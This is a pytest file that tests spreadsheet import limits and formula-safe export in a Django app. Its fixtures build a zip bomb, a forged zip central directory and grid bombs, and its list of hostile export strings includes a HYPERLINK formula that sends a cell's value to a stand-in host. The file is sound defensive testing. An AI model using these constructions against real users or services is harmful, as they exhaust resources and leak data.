"""Issue 8 #1 and #3: reading a spreadsheet stops at its limits (zip bombs, grid bombs, over-long sheets,
over-long CSV) with a message naming the limit; every text written into an export is a text cell."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pytest
from django.conf import settings
from django.utils import translation
from openpyxl import Workbook, load_workbook

from sibao.core import tabular
from sibao.core.imports import Column, Importer, run_import
from sibao.core.tabular import ReadLimits, TableReadError, TableTooLarge, open_table

CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
PACKAGE_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Target="xl/workbook.xml" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
WORKBOOK = (
    b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Target="worksheets/sheet1.xml" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/></Relationships>'
)
SHEET_HEAD = (
    b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = b"</sheetData></worksheet>"
PARTS = {
    "[Content_Types].xml": CONTENT_TYPES,
    "_rels/.rels": PACKAGE_RELS,
    "xl/workbook.xml": WORKBOOK,
    "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
}
LIMITS = ReadLimits(max_rows=100, max_cells=10_000, max_bytes=2**20, max_unpacked_bytes=4 * 2**20)


def workbook(sheet_data: Iterator[bytes] | bytes) -> bytes:
    """An .xlsx whose first sheet's <sheetData> is ``sheet_data``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in PARTS.items():
            archive.writestr(name, data)
        with archive.open("xl/worksheets/sheet1.xml", "w") as part:
            part.write(SHEET_HEAD)
            for chunk in [sheet_data] if isinstance(sheet_data, bytes) else sheet_data:
                part.write(chunk)
            part.write(SHEET_TAIL)
    return buffer.getvalue()


def text_cell(ref: str, text: str) -> bytes:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def rows_xml(count: int, start: int = 1) -> bytes:
    return b"".join(
        f'<row r="{n}">'.encode() + text_cell(f"A{n}", f"name{n}") + text_cell(f"B{n}", str(n)) + b"</row>"
        for n in range(start, start + count)
    )


def read(content: bytes, name: str = "x.xlsx", limits: ReadLimits = LIMITS) -> list[list[str]]:
    return list(open_table(io.BytesIO(content), name, limits).rows)


def refusal(content: bytes, name: str = "x.xlsx", limits: ReadLimits = LIMITS) -> str:
    with translation.override("zh-hans"), pytest.raises(TableTooLarge) as refused:
        read(content, name, limits)
    return str(refused.value)


# --- .xlsx --------------------------------------------------------------------------------------------


def test_a_sheet_within_its_limits_is_read_row_by_row() -> None:
    rows = read(
        workbook(b'<row r="1">' + text_cell("A1", "姓名") + text_cell("B1", "编号") + b"</row>" + rows_xml(99, 2))
    )
    assert rows[0] == ["姓名", "编号"] and rows[-1] == ["name100", "100"] and len(rows) == 100


def deflated(chunks: Iterator[bytes]) -> tuple[bytes, int, int]:
    """A raw deflate stream of the chunks, its CRC-32 and uncompressed size."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    out, crc, size = [], 0, 0
    for chunk in chunks:
        out.append(compressor.compress(chunk))
        crc, size = zlib.crc32(chunk, crc), size + len(chunk)
    out.append(compressor.flush())
    return b"".join(out), crc, size


def zip_of(parts: dict[str, tuple[bytes, int, int]]) -> bytes:
    """A zip (deflate) of already compressed parts, laid out by hand (APPNOTE 4.3)."""
    body, directory = bytearray(), bytearray()
    for name, (data, crc, size) in parts.items():
        encoded = name.encode()
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(data), size)
        directory += b"PK\x01\x02" + struct.pack("<H", 20) + fields
        directory += struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, len(body)) + encoded
        body += b"PK\x03\x04" + fields + struct.pack("<HH", len(encoded), 0) + encoded + data
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(parts), len(parts), len(directory), len(body), 0)
    return bytes(body + directory + end)


def test_a_zip_bomb_is_refused_on_its_declared_size_naming_the_unpacked_limit() -> None:
    """The issue's file: a few MB that unpack to hundreds. Built here (a fully flushed deflate block of one
    row repeated, ~250 MB for 1 MB) and read with the real default limits."""
    limits = ReadLimits.for_import(50_000)
    assert limits.max_unpacked_bytes == 10 * settings.IMPORT_MAX_BYTES == 200 * 2**20
    block = rows_xml(1) * 40_000  # 2.6 MB of one row
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)  # byte-aligned, no back-references
    copies = 100
    stream = compressor.compress(SHEET_HEAD) + piece * copies + compressor.compress(SHEET_TAIL) + compressor.flush()
    crc = zlib.crc32(SHEET_HEAD)
    for _ in range(copies):
        crc = zlib.crc32(block, crc)
    sheet = (stream, zlib.crc32(SHEET_TAIL, crc), len(SHEET_HEAD) + copies * len(block) + len(SHEET_TAIL))
    small = {name: deflated(iter([data])) for name, data in PARTS.items()}
    bomb = zip_of({**small, "xl/worksheets/sheet1.xml": sheet})
    assert len(bomb) < 2 * 2**20 and sheet[2] > 250 * 10**6
    assert zipfile.ZipFile(io.BytesIO(bomb)).read("xl/workbook.xml") == WORKBOOK  # a well-formed zip
    message = refusal(bomb, limits=limits)
    assert "200 MB" in message and "解压" in message


def test_a_part_that_inflates_beyond_its_declared_size_is_not_read() -> None:
    """A forged central directory (small declared size, CRC of the declared prefix) cannot smuggle a big
    sheet past the size check: the readers stop at the declared size and the file is refused."""
    sheet = SHEET_HEAD + rows_xml(3_000) + SHEET_TAIL
    forged = bytearray(workbook(rows_xml(3_000)))
    entry = forged.find(b"PK\x01\x02")
    while forged[entry + 46 : entry + 46 + 24] != b"xl/worksheets/sheet1.xml":
        entry = forged.find(b"PK\x01\x02", entry + 4)
    forged[entry + 16 : entry + 20] = zlib.crc32(sheet[:500]).to_bytes(4, "little")
    forged[entry + 24 : entry + 28] = (500).to_bytes(4, "little")
    assert zipfile.ZipFile(io.BytesIO(bytes(forged))).getinfo("xl/worksheets/sheet1.xml").file_size == 500
    with pytest.raises(TableReadError):
        read(bytes(forged))


def test_a_grid_bomb_of_two_far_apart_cells_is_refused_before_loading() -> None:
    """calamine allocates the whole grid between the first and last filled cell: A1 and ZZ200000 in a
    1 KB file would cost it 4 GB. The scan refuses it on the row limit, then on the cell limit."""
    far = b'<row r="1">' + text_cell("A1", "x") + b'</row><row r="200000"><c r="ZZ200000"><v>1</v></c></row>'
    assert "100" in refusal(workbook(far))
    wide = b'<row r="1">' + text_cell("A1", "x") + b'</row><row r="50"><c r="ZZ50"><v>1</v></c></row>'
    message = refusal(workbook(wide))
    assert "10000" in message and "单元格" in message


def test_cells_written_without_their_reference_are_placed_as_calamine_places_them() -> None:
    """Some writers leave ``r`` out; the cell then follows the previous one of its row."""
    implicit = b'<row r="1">' + b'<c t="inlineStr"><is><t>a</t></is></c>' * 3 + b"</row>"
    assert read(workbook(implicit)) == [["a", "a", "a"]]
    too_wide = b'<row r="40"><c r="A40"><v>1</v></c>' + b"<c><v>1</v></c>" * 300 + b"</row>"
    assert "单元格" in refusal(workbook(too_wide))


def test_a_quoted_greater_than_sign_does_not_hide_a_cell_reference() -> None:
    hidden = (
        b'<row r="1"><c t="inlineStr"><is><t>x</t></is></c></row>'
        b'<row r="2"><c s="1" foo="a>b" r="ZZ5000"><v>1</v></c></row>'
    )
    assert "100" in refusal(workbook(hidden))


def test_empty_formatted_cells_do_not_count() -> None:
    """Excel writes <c r=".." s="3"/> for a formatted empty cell; calamine skips it, and so do the limits."""
    formatted = rows_xml(5) + b'<row r="90000"><c r="ZZ90000" s="3"/></row>'
    assert len(read(workbook(formatted))) == 5


def test_too_many_shared_strings_are_refused() -> None:
    buffer = io.BytesIO(workbook(rows_xml(2)))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("xl/sharedStrings.xml", b"<sst>" + b"<si><t>x</t></si>" * 10_001 + b"</sst>")
    assert "单元格" in refusal(buffer.getvalue())


def test_not_a_workbook_and_old_formats() -> None:
    with pytest.raises(TableReadError):
        read(b"<html>not a workbook</html>")
    with pytest.raises(TableReadError):
        read(b"PK\x03\x04 broken")
    with pytest.raises(TableReadError):
        read(b"\xd0\xcf\x11\xe0", name="old.xls")  # BIFF workbooks are not read: no way to bound them first


# --- CSV ----------------------------------------------------------------------------------------------


def test_csv_is_streamed_in_utf8_or_gbk() -> None:
    assert read("名称,编号\n甲,1\n".encode("gbk"), "x.csv") == [["名称", "编号"], ["甲", "1"]]
    assert read("\ufeff名称,编号\n乙,2\n".encode(), "x.csv") == [["名称", "编号"], ["乙", "2"]]


def test_an_over_long_csv_is_refused_at_the_row_limit() -> None:
    content = b"a,b\n" + b"x,1\n\n" * 101  # blank lines do not count, the 101st data row does
    assert "100" in refusal(content, "x.csv")
    assert len(read(b"a,b\n" + b"x,1\n\n" * 100, "x.csv")) == 201


def test_a_csv_beyond_its_bytes_or_cells_is_refused() -> None:
    assert "1 MB" in refusal(b"a,b\n" + b"x" * 2**20, "x.csv")
    assert "10000" in refusal(b"a" + b"," * 10_001 + b"\n", "x.csv")


def test_an_importer_names_its_own_row_limit_in_chinese() -> None:
    importer: Importer[str] = Importer(
        columns=[Column("name", "名称", required=True)], parse_row=lambda record, row: record["name"], save_rows=len
    )
    importer.max_rows = 5
    workbook_rows = Workbook()
    sheet = workbook_rows.active
    assert sheet is not None
    sheet.append(["名称"])
    for number in range(6):
        sheet.append([f"甲{number}"])
    content = io.BytesIO()
    workbook_rows.save(content)
    with translation.override("zh-hans"):
        result = run_import(importer, io.BytesIO(content.getvalue()), "x.xlsx", commit=True)
        csv_result = run_import(importer, io.BytesIO("名称\n甲\n".encode() * 7), "x.csv", commit=True)
    for refused in (result, csv_result):
        assert not refused.committed and len(refused.errors) == 1
        assert "5" in str(refused.errors[0]) and "行" in str(refused.errors[0])


# --- Writing --------------------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&F101,"点击")', "+86 138", "-2+3", "@SUM(A1:A2)", "=1+1"]


def test_every_text_is_written_as_a_text_cell_unchanged() -> None:
    content = tabular.write_xlsx(["名称", "数值"], [[text, 7] for text in HOSTILE], sheet_title="表", notes=HOSTILE)
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    texts = [cell for cell in cells if cell.value in HOSTILE]
    assert len(texts) == 2 * len(HOSTILE)
    assert all(cell.data_type == "s" for cell in texts)
    assert [cell.value for cell in book.worksheets[0]["B"][1:]] == [7] * len(HOSTILE)  # numbers stay numbers
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no formula anywhere


def test_control_characters_that_xml_cannot_hold_are_dropped_not_fatal() -> None:
    content = tabular.write_xlsx(["名称"], [["甲\x0b乙"]], sheet_title="表")
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None and sheet["A2"].value == "甲乙"


def test_a_results_file_of_the_most_rows_allowed_fits_the_cell_limit() -> None:
    """The bulk limits agree: a test-results file (five columns) of the most rows allowed is not refused by cells."""
    from django.conf import settings

    assert settings.BULK_IMPORT_MAX_CELLS >= settings.BULK_IMPORT_MAX_ROWS * 5
